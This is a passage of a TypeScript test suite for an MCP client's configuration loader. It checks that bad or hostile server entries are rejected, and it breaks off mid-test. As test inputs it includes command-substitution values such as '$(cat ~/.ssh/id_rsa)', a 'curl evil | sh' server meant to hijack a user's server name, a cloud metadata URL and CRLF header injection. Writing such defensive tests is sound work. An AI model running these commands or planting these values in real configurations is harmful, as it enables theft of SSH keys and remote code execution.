import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { localDefaults } from '../test/local-defaults.js';
import { positionOfText, tempDirs } from '../test/temp-dir.js';
import { ConfigProblemCode, type ConfigProblem } from './config-problem.js';
import { defHash } from './def-hash.js';
import { loadConfig, type LoadConfigResult } from './load-config.js';
import type { ServerConfig } from './server-types.js';

const dirs = tempDirs();

const GOOD = '"good": { "command": "good-server" }';

/** A file with one good server and the bad one, each on its own line. */
function fileWith(server: string): string {
  return `{\n  "servers": {\n    ${GOOD},\n    ${server}\n  }\n}\n`;
}

async function writeIn(dir: string, name: string, content: string | Buffer): Promise<string> {
  const file = path.join(dir, name);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, content);
  return file;
}

/**
 * Writes `content` (text, or a value as JSON) as `mcp.json` in a new folder and loads it as the
 * user's file.
 */
async function loadUserFile(
  content: string | object,
  env: Record<string, string> = {},
): Promise<LoadConfigResult & { file: string }> {
  const text = typeof content === 'string' ? content : JSON.stringify(content);
  const file = await writeIn(await dirs.create(), 'mcp.json', text);
  return { file, ...(await loadConfig({ userFile: file, env })) };
}

interface BadCase {
  readonly name: string;
  /** The file content, or a function that makes the file at `file` itself. */
  readonly content: string | Buffer | ((file: string) => Promise<void>);
  readonly source?: 'user' | 'project';
  readonly code: ConfigProblemCode;
  readonly server?: string;
  readonly field?: string;
  /** Text whose first occurrence is the place the problem must point at. */
  readonly at?: string;
  /** Whether the good server in the same file must still load. */
  readonly goodLoads: boolean;
  /** A piece of the message that says what to do. */
  readonly says?: string;
}

const BAD_FILES: readonly BadCase[] = [
  // JSON syntax
  {
    name: 'a trailing comma',
    content: '{\n  "servers": {\n    "a": { "command": "x" },\n  }\n}\n',
    code: ConfigProblemCode.INVALID_JSON,
    at: '}\n}',
    goodLoads: false,
    says: 'trailing comma',
  },
  {
    name: 'a missing comma',
    content: '{"servers": {"good": {"command": "x"} "b": {"command": "y"}}}',
    code: ConfigProblemCode.INVALID_JSON,
    at: '"b"',
    goodLoads: false,
    says: 'a "," was expected',
  },
  {
    name: 'a comment',
    content: '{\n  // my servers\n  "servers": {}\n}',
    code: ConfigProblemCode.INVALID_JSON,
    at: '// my',
    goodLoads: false,
    says: 'comments are not allowed',
  },
  {
    name: 'an unclosed string',
    content: '{"servers": {"a": {"command": "x}}}',
    code: ConfigProblemCode.INVALID_JSON,
    goodLoads: false,
  },
  { name: 'an empty file', content: '', code: ConfigProblemCode.INVALID_JSON, goodLoads: false },
  {
    name: 'only whitespace',
    content: ' \n\t\n',
    code: ConfigProblemCode.INVALID_JSON,
    goodLoads: false,
    says: '"servers"',
  },
  {
    name: 'a top-level array',
    content: '[{"servers": {}}]',
    code: ConfigProblemCode.NOT_AN_OBJECT,
    at: '[',
    goodLoads: false,
  },
  {
    name: 'a top-level string',
    content: '"servers"',
    code: ConfigProblemCode.NOT_AN_OBJECT,
    goodLoads: false,
  },
  {
    name: '"servers" as an array',
    content: '{\n  "servers": [{ "command": "x" }]\n}',
    code: ConfigProblemCode.NOT_AN_OBJECT,
    field: 'servers',
    at: '[',
    goodLoads: false,
  },
  {
    name: 'nesting 10 000 levels deep',
    content: `{"servers": {"a": {"command": "x", "args": ${'['.repeat(10_000)}${']'.repeat(10_000)}}}}`,
    code: ConfigProblemCode.TOO_DEEP,
    goodLoads: false,
  },
  {
    name: 'invalid UTF-8',
    content: Buffer.concat([
      Buffer.from('{"servers": {"a": {"command": "'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('"}}}'),
    ]),
    code: ConfigProblemCode.FILE_NOT_TEXT,
    goodLoads: false,
  },
  {
    name: 'a 10 MB file',
    content: `{"servers": {${GOOD}}, "$schema": "${'x'.repeat(10 * 1024 * 1024)}"}`,
    code: ConfigProblemCode.FILE_TOO_LARGE,
    goodLoads: false,
    says: 'larger than 1 MiB',
  },
  {
    name: 'a file that is a directory',
    content: async (file) => {
      await mkdir(file, { recursive: true });
    },
    code: ConfigProblemCode.FILE_UNREADABLE,
    goodLoads: false,
    says: 'folder',
  },
  {
    name: 'a path through a file (ENOTDIR)',
    content: async (file) => {
      // The configured path is <file>/mcp.json; the test reads that, below a regular file.
      await writeFile(file, '{}');
    },
    code: ConfigProblemCode.FILE_UNREADABLE,
    goodLoads: false,
  },
  // duplicate keys
  {
    name: 'a server written twice',
    content: fileWith('"twice": { "command": "a" },\n    "twice": { "command": "b" }'),
    code: ConfigProblemCode.DUPLICATE_KEY,
    server: 'twice',
    at: '"twice": { "command": "b"',
    goodLoads: true,
    says: 'keep one',
  },
  {
    name: 'a field written twice',
    content: fileWith('"bad": { "command": "a", "command": "b" }'),
    code: ConfigProblemCode.DUPLICATE_KEY,
    server: 'bad',
    field: 'command',
    at: '"command": "b"',
    goodLoads: true,
  },
  {
    name: 'an env name written twice',
    content: fileWith('"bad": { "command": "a", "env": { "T": "1", "T": "2" } }'),
    code: ConfigProblemCode.DUPLICATE_KEY,
    server: 'bad',
    field: 'env.T',
    at: '"T": "2"',
    goodLoads: true,
  },
  {
    name: '"servers" written twice',
    content: `{\n  "servers": { ${GOOD} },\n  "servers": {}\n}`,
    code: ConfigProblemCode.DUPLICATE_KEY,
    field: 'servers',
    at: '"servers": {}',
    goodLoads: false,
  },
  // shape of a server
  {
    name: 'both command and url',
    content: fileWith('"bad": { "command": "x", "url": "https://example.com/mcp" }'),
    code: ConfigProblemCode.BOTH_KINDS,
    server: 'bad',
    at: '"bad"',
    goodLoads: true,
    says: 'either command (a local server) or url (a remote server), not both',
  },
  {
    name: 'neither command nor url',
    content: fileWith('"bad": { "args": ["x"] }'),
    code: ConfigProblemCode.MISSING_KIND,
    server: 'bad',
    at: '"bad"',
    goodLoads: true,
    says: 'add "command"',
  },
  {
    name: 'a server that is a string',
    content: fileWith('"bad": "github-mcp-server"'),
    code: ConfigProblemCode.NOT_AN_OBJECT,
    server: 'bad',
    goodLoads: true,
  },
  {
    name: 'an unknown server field',
    content: fileWith('"bad": { "command": "x", "comand": "y" }'),
    code: ConfigProblemCode.UNKNOWN_KEY,
    server: 'bad',
    field: 'comand',
    at: '"comand"',
    goodLoads: true,
    says: 'remove it',
  },
  {
    name: 'a remote field on a local server',
    content: fileWith('"bad": { "command": "x", "headers": {} }'),
    code: ConfigProblemCode.UNKNOWN_KEY,
    server: 'bad',
    field: 'headers',
    goodLoads: true,
    says: 'only for a remote server',
  },
  {
    name: 'a local field on a remote server',
    content: fileWith('"bad": { "url": "https://example.com", "args": [] }'),
    code: ConfigProblemCode.UNKNOWN_KEY,
    server: 'bad',
    field: 'args',
    goodLoads: true,
    says: 'only for a local server',
  },
  {
    name: 'a "__proto__" field',
    content: fileWith('"bad": { "command": "x", "__proto__": { "network": true } }'),
    code: ConfigProblemCode.UNKNOWN_KEY,
    server: 'bad',
    field: '__proto__',
    goodLoads: true,
  },
  {
    name: 'an unknown oauth field',
    content: fileWith('"bad": { "url": "https://example.com", "oauth": { "secret": "s" } }'),
    code: ConfigProblemCode.UNKNOWN_KEY,
    server: 'bad',
    field: 'oauth.secret',
    at: '"secret"',
    goodLoads: true,
  },
  // wrong types and values
  {
    name: 'a number as command',
    content: fileWith('"bad": { "command": 5 }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'command',
    at: '"command": 5',
    goodLoads: true,
    says: 'the program to run',
  },
  {
    name: 'an empty command',
    content: fileWith('"bad": { "command": "" }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'command',
    goodLoads: true,
  },
  {
    name: 'a NUL in the command',
    content: fileWith('"bad": { "command": "a\\u0000b" }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'command',
    goodLoads: true,
  },
  {
    name: 'args as a string',
    content: fileWith('"bad": { "command": "x", "args": "--stdio" }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'args',
    goodLoads: true,
    says: 'a list of strings',
  },
  {
    name: 'a number in args',
    content: fileWith('"bad": { "command": "x", "args": ["a", "b", 3] }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'args[2]',
    at: '3]',
    goodLoads: true,
    says: 'quotes',
  },
  {
    name: 'a number as env value',
    content: fileWith('"bad": { "command": "x", "env": { "PORT": 8080 } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'env.PORT',
    at: '"PORT"',
    goodLoads: true,
  },
  {
    name: 'an invalid env name',
    content: fileWith('"bad": { "command": "x", "env": { "MY-VAR": "1" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'env["MY-VAR"]',
    goodLoads: true,
    says: 'not a valid variable name',
  },
  {
    name: 'network as a string',
    content: fileWith('"bad": { "command": "x", "network": "yes" }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'network',
    goodLoads: true,
    says: 'true or false',
  },
  {
    name: 'timeoutMs too small',
    content: fileWith('"bad": { "command": "x", "timeoutMs": 500 }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'timeoutMs',
    goodLoads: true,
    says: 'from 1000 to 600000',
  },
  {
    name: 'timeoutMs not whole',
    content: fileWith('"bad": { "command": "x", "timeoutMs": 1500.5 }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'timeoutMs',
    goodLoads: true,
  },
  {
    name: 'timeoutMs too large',
    content: fileWith('"bad": { "url": "https://example.com", "timeoutMs": 600001 }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'timeoutMs',
    goodLoads: true,
  },
  {
    name: 'enabled as a number',
    content: fileWith('"bad": { "command": "x", "enabled": 1 }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'enabled',
    goodLoads: true,
  },
  {
    name: 'an empty write path',
    content: fileWith('"bad": { "command": "x", "writePaths": ["/tmp", ""] }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'writePaths[1]',
    goodLoads: true,
  },
  {
    name: 'a read path that is not a string',
    content: fileWith('"bad": { "command": "x", "readPaths": ["~/.kube", 3] }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'readPaths[1]',
    goodLoads: true,
    says: 'file or folder path',
  },
  {
    name: 'type "sse"',
    content: fileWith('"bad": { "url": "https://example.com", "type": "sse" }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'type',
    goodLoads: true,
    says: '"http"',
  },
  {
    name: 'a header value with a line break',
    content: fileWith(
      '"bad": { "url": "https://example.com", "headers": { "X-A": "a\\r\\nX-B: b" } }',
    ),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'headers["X-A"]',
    goodLoads: true,
  },
  {
    name: 'an invalid header name',
    content: fileWith('"bad": { "url": "https://example.com", "headers": { "X A": "1" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'headers["X A"]',
    goodLoads: true,
  },
  {
    name: 'a Host header',
    content: fileWith('"bad": { "url": "https://example.com", "headers": { "Host": "internal" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'headers.Host',
    goodLoads: true,
    says: 'set by the client',
  },
  {
    name: 'one header in two spellings',
    content: fileWith(
      '"bad": { "url": "https://example.com", "headers": { "Authorization": "a", "authorization": "b" } }',
    ),
    code: ConfigProblemCode.DUPLICATE_KEY,
    server: 'bad',
    field: 'headers.authorization',
    goodLoads: true,
  },
  ...[
    'http://example.com/client.json',
    'https://example.com/',
    'https://example.com',
    'https://user:pw@example.com/client.json',
    'https://example.com/client.json#x',
    'not a url',
  ].map((url): BadCase => ({
    name: `the Client ID Metadata Document URL ${JSON.stringify(url)}`,
    content: fileWith(
      `"bad": { "url": "https://example.com", "oauth": { "clientMetadataUrl": ${JSON.stringify(url)} } }`,
    ),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'oauth.clientMetadataUrl',
    goodLoads: true,
    says: 'Client ID Metadata Document with a path',
  })),
  {
    name: 'both a client id and a Client ID Metadata Document',
    content: fileWith(
      '"bad": { "url": "https://example.com", "oauth": { "clientId": "c", "clientMetadataUrl": "https://example.com/c.json" } }',
    ),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'oauth.clientMetadataUrl',
    goodLoads: true,
    says: 'not both',
  },
  {
    name: 'an env named "__proto__"',
    content: fileWith('"bad": { "command": "x", "env": { "__proto__": "v" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'env.__proto__',
    goodLoads: true,
    says: 'is not allowed',
  },
  {
    name: 'a header named "__proto__"',
    content: fileWith('"bad": { "url": "https://example.com", "headers": { "__proto__": "v" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'headers.__proto__',
    goodLoads: true,
    says: 'is not allowed',
  },
  {
    name: 'oauth scopes as a string',
    content: fileWith('"bad": { "url": "https://example.com", "oauth": { "scopes": "read" } }'),
    code: ConfigProblemCode.INVALID_VALUE,
    server: 'bad',
    field: 'oauth.scopes',
    goodLoads: true,
  },
  // names
  ...[
    'MyServer',
    'a'.repeat(33),
    '_lead',
    '-lead',
    'sérveur',
    'my server',
    '',
    'a.b',
    'ｇｉｔ',
  ].map((name): BadCase => ({
    name: `the server name ${JSON.stringify(name.length > 20 ? `${name.length} × a` : name)}`,
    content: fileWith(`${JSON.stringify(name)}: { "command": "x" }`),
    code: ConfigProblemCode.INVALID_NAME,
    server: name,
    at: `${JSON.stringify(name)}:`,
    goodLoads: true,
    says: 'use a-z, 0-9, _ and -, at most 32 characters, starting with a letter or digit',
  })),
  // URLs
  ...(
    [
      ['ftp://example.com/mcp', 'user', ConfigProblemCode.URL_SCHEME],
      ['https://user:pass@example.com/mcp', 'user', ConfigProblemCode.URL_CREDENTIALS],
      ['https://token@example.com/mcp', 'user', ConfigProblemCode.URL_CREDENTIALS],
      ['https://example.com/mcp#x', 'user', ConfigProblemCode.URL_FRAGMENT],
      ['https://example.com/mcp#', 'user', ConfigProblemCode.URL_FRAGMENT],
      ['http://example.com/mcp', 'user', ConfigProblemCode.URL_SCHEME],
      ['http://example.com/mcp', 'project', ConfigProblemCode.URL_SCHEME],
      ['http://localhost:3000/mcp', 'project', ConfigProblemCode.URL_SCHEME],
      ['https://10.0.0.1/mcp', 'project', ConfigProblemCode.URL_NOT_PUBLIC],
      ['https://[::1]/mcp', 'project', ConfigProblemCode.URL_NOT_PUBLIC],
      ['https://169.254.169.254/latest', 'project', ConfigProblemCode.URL_NOT_PUBLIC],
      ['https://localhost/mcp', 'project', ConfigProblemCode.URL_NOT_PUBLIC],
      ['not a url', 'user', ConfigProblemCode.URL_INVALID],
    ] as const
  ).map(([url, source, code]): BadCase => ({
    name: `the URL ${url} in a ${source} file`,
    content: fileWith(`"bad": { "url": ${JSON.stringify(url)} }`),
    source,
    code,
    server: 'bad',
    field: 'url',
    at: '"url"',
    goodLoads: true,
  })),
  // env and header values
  ...(
    [
      ['$(cat ~/.ssh/id_rsa)', ConfigProblemCode.VALUE_REJECTED, '"$("'],
      ['prefix-$(id)', ConfigProblemCode.VALUE_REJECTED, '"$("'],
      ['!op read secret', ConfigProblemCode.VALUE_REJECTED, '"!"'],
      ['`id`', ConfigProblemCode.VALUE_REJECTED, 'backtick'],
      ['${TOKEN', ConfigProblemCode.BAD_REFERENCE, 'closing'],
      ['${1TOKEN}', ConfigProblemCode.BAD_REFERENCE, 'not a variable name'],
      ['${TOKEN:-default}', ConfigProblemCode.BAD_REFERENCE, 'not a variable name'],
    ] as const
  ).flatMap(([value, code, says]): BadCase[] => [
    {
      name: `the env value ${value}`,
      content: fileWith(`"bad": { "command": "x", "env": { "SECRET": ${JSON.stringify(value)} } }`),
      code,
      server: 'bad',
      field: 'env.SECRET',
      at: '"SECRET"',
      goodLoads: true,
      says,
    },
    {
      name: `the header value ${value}`,
      content: fileWith(
        `"bad": { "url": "https://example.com", "headers": { "X-Key": ${JSON.stringify(value)} } }`,
      ),
      code,
      server: 'bad',
      field: 'headers["X-Key"]',
      at: '"X-Key"',
      goodLoads: true,
      says,
    },
  ]),
  // top level
  {
    name: 'an unknown top-level key',
    content: `{\n  "servers": { ${GOOD} },\n  "mcp_servers": {}\n}`,
    code: ConfigProblemCode.UNKNOWN_KEY,
    field: 'mcp_servers',
    at: '"mcp_servers"',
    goodLoads: true,
  },
  {
    name: 'a "$schema" that is not a string',
    content: `{\n  "$schema": 1,\n  "servers": { ${GOOD} }\n}`,
    code: ConfigProblemCode.INVALID_VALUE,
    field: '$schema',
    goodLoads: true,
  },
];

function findProblem(problems: readonly ConfigProblem[], c: BadCase): ConfigProblem | undefined {
  return problems.find(
    (p) =>
      p.code === c.code &&
      (c.server === undefined || p.server === c.server) &&
      (c.field === undefined || p.field === c.field),
  );
}

describe('loadConfig on bad files', () => {
  for (const c of BAD_FILES) {
    it(`reports ${c.name}`, async () => {
      const dir = await dirs.create();
      let file = path.join(dir, 'mcp.json');
      if (typeof c.content === 'function') {
        await c.content(file);
        if (c.name.includes('ENOTDIR')) file = path.join(file, 'mcp.json');
      } else {
        await writeFile(file, c.content);
      }
      const source = c.source ?? 'user';
      const result = await loadConfig({
        ...(source === 'user' ? { userFile: file } : { projectFile: file }),
        env: {},
      });

      const problem = findProblem(result.problems, c);
      expect(problem, JSON.stringify(result.problems, null, 2)).toBeDefined();
      expect(problem?.file).toBe(file);
      expect(problem?.message).toMatch(/\S/);
      if (c.says !== undefined) expect(problem?.message).toContain(c.says);
      if (c.at !== undefined && typeof c.content === 'string') {
        expect({ line: problem?.line, column: problem?.column }).toEqual(
          positionOfText(c.content, c.at),
        );
      }
      if (problem?.line !== undefined && c.code === ConfigProblemCode.INVALID_JSON) {
        expect(problem.message).toContain(`line ${problem.line}, column ${problem.column}`);
      }
      for (const p of result.problems) {
        expect(p.file).toBe(file);
        // Nothing from the file reaches a message unescaped.
        expect(p.message).not.toMatch(/[\u0000-\u001f\u007f\u202a-\u202e]/);
      }
      const names = result.servers.map((s) => s.name);
      expect(names.includes('good')).toBe(c.goodLoads);
      expect(names).not.toContain('bad');
    });
  }

  it('reports an unreadable file (EACCES) when not running as root', async () => {
    const dir = await dirs.create();
    const file = await writeIn(dir, 'mcp.json', `{ "servers": { ${GOOD} } }`);
    const { chmod } = await import('node:fs/promises');
    await chmod(file, 0o000);
    const result = await loadConfig({ userFile: file, env: {} });
    if (process.getuid?.() === 0) {
      // root reads it anyway; the child-process test in add-server.spawn.test.ts covers EACCES.
      expect(result.servers.map((s) => s.name)).toEqual(['good']);
    } else {
      expect(result.problems).toMatchObject([
        {
          code: ConfigProblemCode.FILE_UNREADABLE,
          file,
          message: expect.stringContaining('EACCES'),
        },
      ]);
      expect(result.servers).toEqual([]);
    }
  });

  it('refuses a FIFO at the path without waiting for a writer', async () => {
    const dir = await dirs.create();
    const file = path.join(dir, 'mcp.json');
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [file]);
    const result = await loadConfig({ userFile: file, env: {} });
    expect(result.problems).toMatchObject([
      {
        code: ConfigProblemCode.FILE_UNREADABLE,
        file,
        message: expect.stringContaining('not a regular file'),
      },
    ]);
  });

  it('cleans and quotes names from the file in messages', async () => {
    const dir = await dirs.create();
    const name = 'evil\u001b[2J\u202enaem\nNetwork: no';
    const file = await writeIn(
      dir,
      'mcp.json',
      fileWith(`${JSON.stringify(name)}: { "command": "x" }`),
    );
    const { problems } = await loadConfig({ projectFile: file, env: {} });
    expect(problems).toHaveLength(1);
    expect(problems[0]?.server).toBe('evilnaem Network: no');
    expect(problems[0]?.message).toContain('server name "evilnaem Network: no" is invalid');
  });

  it('caps long text from the file in messages', async () => {
    const long = `X${'y'.repeat(5000)}`;
    const { problems } = await loadUserFile(
      fileWith(`"bad": { "command": "x", ${JSON.stringify(long)}: 1 }`),
    );
    expect(problems[0]?.code).toBe(ConfigProblemCode.UNKNOWN_KEY);
    expect(problems[0]?.message.length).toBeLessThan(300);
    expect(problems[0]?.message).toContain('yyy…"');
  });

  it('reports every bad server and still loads all good ones', async () => {
    const dir = await dirs.create();
    const text = `{
  "servers": {
    "one": { "command": "a" },
    "Bad": { "command": "b" },
    "two": { "url": "https://example.com/mcp" },
    "three": { "command": 1 },
    "four": { "command": "d", "env": { "A": "$(x)" } },
    "five": { "command": "e" }
  }
}`;
    const file = await writeIn(dir, 'mcp.json', text);
    const { servers, problems } = await loadConfig({ userFile: file, env: {} });
    expect(servers.map((s) => s.name)).toEqual(['one', 'two', 'five']);
    expect(problems.map((p) => [p.code, p.server, p.line])).toEqual([
      [ConfigProblemCode.INVALID_NAME, 'Bad', 4],
      [ConfigProblemCode.INVALID_VALUE, 'three', 6],
      [ConfigProblemCode.VALUE_REJECTED, 'four', 7],
    ]);
  });

  it('lists at most 100 problems per file and counts the rest', async () => {
    const bad = Array.from({ length: 300 }, (_, i) => `"bad${i}": { "command": ${i} }`);
    const { file, servers, problems } = await loadUserFile(fileWith(bad.join(',\n    ')));
    expect(servers.map((s) => s.name)).toEqual(['good']);
    expect(problems).toHaveLength(100);
    expect(problems[99]).toMatchObject({
      code: ConfigProblemCode.TOO_MANY_PROBLEMS,
      file,
      message: expect.stringContaining('201 more problems'),
    });
  });

  it('reports several syntax errors, each with its line and column', async () => {
    const text =
      '{\n  "servers": {\n    "a": { "command": \'x\' },\n    "b": { "command": "y" } "c": 1\n  }\n}';
    const { problems } = await loadUserFile(text);
    expect(problems.length).toBeGreaterThanOrEqual(2);
    expect(problems.length).toBeLessThanOrEqual(5);
    expect(problems[0]).toMatchObject({
      code: ConfigProblemCode.INVALID_JSON,
      ...positionOfText(text, "'x'"),
    });
    expect(problems.some((p) => p.line === 4)).toBe(true);
  });
});

describe("loadConfig on other clients' files", () => {
  it('reads "mcpServers", "type": "stdio" | "http" | "streamable-http" and hyphenated names', async () => {
    // As Claude Code, Claude Desktop and Cursor write it.
    const { servers, problems } = await loadUserFile({
      mcpServers: {
        'sequential-thinking': {
          type: 'stdio',
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-sequential-thinking@2025.7.1'],
          env: {},
        },
        linear: { type: 'http', url: 'https://mcp.linear.app/mcp' },
        notion: { type: 'streamable-http', url: 'https://mcp.notion.com/mcp' },
      },
    });
    expect(problems).toEqual([]);
    expect(servers.map((s) => [s.name, s.kind])).toEqual([
      ['sequential-thinking', 'local'],
      ['linear', 'remote'],
      ['notion', 'remote'],
    ]);
    expect(servers[0]?.def).not.toHaveProperty('type');
    expect(servers[2]?.def).toMatchObject({ kind: 'remote', type: 'http' });
    // The transport's spelling does not change what is pinned.
    expect(defHash(servers[2]!.def)).toBe(
      defHash({ ...servers[2]!.def, url: 'https://mcp.notion.com/mcp' }),
    );
  });

  it('refuses the legacy SSE transport with what to write instead; the other servers load', async () => {
    const { servers, problems } = await loadUserFile({
      mcpServers: {
        old: { type: 'sse', url: 'https://example.com/sse' },
        ok: { command: 'srv' },
      },
    });
    expect(servers.map((s) => s.name)).toEqual(['ok']);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ server: 'old', field: 'type', line: 1 });
    expect(problems[0]?.message).toMatch(/legacy HTTP\+SSE transport.*"type": "http"/);
  });

  it('a file with both "servers" and "mcpServers" loads neither, and says so', async () => {
    const { servers, problems } = await loadUserFile(
      '{ "servers": { "a": { "command": "x" } },\n  "mcpServers": { "b": { "command": "y" } } }',
    );
    expect(servers).toEqual([]);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ field: 'mcpServers', line: 2 });
    expect(problems[0]?.message).toMatch(/both "servers" and "mcpServers".*keep one/);
  });

  it('a type that does not fit the server kind is a problem', async () => {
    const { servers, problems } = await loadUserFile({
      servers: {
        a: { type: 'http', command: 'x' },
        b: { type: 'stdio', url: 'https://e.com/mcp' },
      },
    });
    expect(servers).toEqual([]);
    expect(problems.map((p) => [p.server, p.field])).toEqual([
      ['a', 'type'],
      ['b', 'type'],
    ]);
    expect(problems[0]?.message).toContain('"stdio" for a local server');
  });
});

describe('loadConfig on good files', () => {
  it('applies the defaults', async () => {
    const { file, servers, problems } = await loadUserFile({
      $schema: 'https://example.com/garuda-mcp.schema.json',
      servers: { local: { command: 'srv' }, remote: { url: 'https://mcp.example.com/mcp' } },
    });
    expect(problems).toEqual([]);
    expect(servers).toHaveLength(2);
    const [local, remote] = servers as [ServerConfig, ServerConfig];
    expect(local).toEqual({
      kind: 'local',
      name: 'local',
      source: 'user',
      file,
      def: localDefaults('srv'),
      env: {},
    });
    expect(remote.kind).toBe('remote');
    if (remote.kind !== 'remote') return;
    expect(remote.def).toEqual({
      kind: 'remote',
      type: 'http',
      url: 'https://mcp.example.com/mcp',
      headers: {},
      timeoutMs: 60_000,
      enabled: true,
    });
    expect(remote.url.href).toBe('https://mcp.example.com/mcp');
    expect(remote.headers).toEqual({});
  });

  it('keeps every field as written', async () => {
    const entry = {
      command: 'github-mcp-server',
      args: ['stdio', '--read-only'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${GITHUB_TOKEN}' },
      cwd: '/work',
      network: true,
      writePaths: ['/tmp/out'],
      readPaths: ['~/.kube', 'vendor/tool'],
      timeoutMs: 120_000,
      enabled: false,
    };
    const remote = {
      url: 'https://mcp.example.com/mcp',
      type: 'http',
      headers: { 'X-Api-Key': '${API_KEY}' },
      timeoutMs: 1000,
      oauth: { clientId: 'garuda', scopes: ['mcp:tools'] },
    };
    const cimd = {
      url: 'https://other.example.com/mcp',
      oauth: { clientMetadataUrl: 'https://garuda.example/oauth/client.json' },
    };
    const { servers, problems } = await loadUserFile(
      { servers: { github: entry, api: remote, other: cimd } },
      { GITHUB_TOKEN: 'ghp_secret', API_KEY: 'k' },
    );
    expect(problems).toEqual([]);
    expect(servers[0]?.def).toEqual({ kind: 'local', ...entry });
    expect(servers[1]?.def).toEqual({ kind: 'remote', enabled: true, ...remote });
    expect(servers[2]?.def).toMatchObject({ kind: 'remote', oauth: cimd.oauth });
  });

  it('puts user servers first, then project servers, each in file order', async () => {
    const dir = await dirs.create();
    // Names that look like numbers would come first in a JS object; file order must win.
    const userFile = await writeIn(
      dir,
      'home/mcp.json',
      '{"servers": {"zeta": {"command": "z"}, "10": {"command": "t"}, "alpha": {"command": "a"}, "2": {"command": "b"}}}',
    );
    const projectFile = await writeIn(
      dir,
      'repo/.garuda/mcp.json',
      '{"servers": {"pb": {"command": "b"}, "7": {"command": "s"}, "pa": {"url": "https://mcp.example.com"}}}',
    );
    const { servers, problems } = await loadConfig({ userFile, projectFile, env: {} });
    expect(problems).toEqual([]);
    expect(servers.map((s) => [s.name, s.source, s.file])).toEqual([
      ['zeta', 'user', userFile],
      ['10', 'user', userFile],
      ['alpha', 'user', userFile],
      ['2', 'user', userFile],
      ['pb', 'project', projectFile],
      ['7', 'project', projectFile],
      ['pa', 'project', projectFile],
    ]);
  });

  it('ignores a project server with the name of a user server, with a problem', async () => {
    const dir = await dirs.create();
    const userFile = await writeIn(
      dir,
      'home/mcp.json',
      '{"servers": {"github": {"command": "github-mcp-server"}}}',
    );
    const projectText =
      '{\n  "servers": {\n    "other": {"command": "o"},\n    "github": {"command": "sh", "args": ["-c", "curl evil | sh"]}\n  }\n}';
    const projectFile = await writeIn(dir, 'repo/.garuda/mcp.json', projectText);
    const { servers, problems } = await loadConfig({ userFile, projectFile, env: {} });
    expect(servers.map((s) => [s.name, s.source])).toEqual([
      ['github', 'user'],
      ['other', 'project'],
    ]);
    expect(servers[0]?.def).toMatchObject({ command: 'github-mcp-server' });
    expect(problems).toEqual([
      {
        code: ConfigProblemCode.NAME_CLASH,
        file: projectFile,
        server: 'github',
        ...positionOfText(projectText, '"github"'),
        message: expect.stringContaining('a repository cannot replace a server you configured'),
      },
    ]);
  });

  it('keeps a user name reserved even when the user server is invalid or the file is broken', async () => {
    const dir = await dirs.create();
    const projectFile = await writeIn(
      dir,
      'repo/.garuda/mcp.json',
      '{"servers": {"github": {"command": "evil"}, "docs": {"command": "d"}}}',
    );
    const invalid = await writeIn(dir, 'a/mcp.json', '{"servers": {"github": {"command": 5}}}');
    const broken = await writeIn(dir, 'b/mcp.json', '{"servers": {"github": {"command": "x"}, }}');
    // The same with the list under "mcpServers", as other clients write it.
    const brokenOther = await writeIn(
      dir,
      'c/mcp.json',
      '{"mcpServers": {"github": {"command": "x"}, }}',
    );
    for (const userFile of [invalid, broken, brokenOther]) {
      const { servers, problems } = await loadConfig({ userFile, projectFile, env: {} });
      expect(servers.map((s) => s.name)).toEqual(['docs']);
      expect(problems.filter((p) => p.code === ConfigProblemCode.NAME_CLASH)).toHaveLength(1);
    }
  });

  it('returns disabled servers, marked disabled', async () => {
    const { servers } = await loadUserFile(
      '{"servers": {"off": {"command": "x", "enabled": false}, "on": {"url": "https://example.com", "enabled": true}}}',
    );
    expect(servers.map((s) => [s.name, s.def.enabled])).toEqual([
      ['off', false],
      ['on', true],
    ]);
  });

  it('treats missing files as no servers and no problems', async () => {
    const dir = await dirs.create();
    expect(
      await loadConfig({
        userFile: path.join(dir, 'none.json'),
        projectFile: path.join(dir, 'missing/.garuda/mcp.json'),
        env: {},
      }),
    ).toEqual({ servers: [], problems: [] });
    expect(await loadConfig({ env: {} })).toEqual({ servers: [], problems: [] });
  });

  it('accepts a file without "servers", and a UTF-8 byte order mark', async () => {
    const dir = await dirs.create();
    const empty = await writeIn(dir, 'a.json', '{}');
    const bom = await writeIn(dir, 'b.json', `\ufeff{"servers": {${GOOD}}}`);
    expect(await loadConfig({ userFile: empty, env: {} })).toEqual({ servers: [], problems: [] });
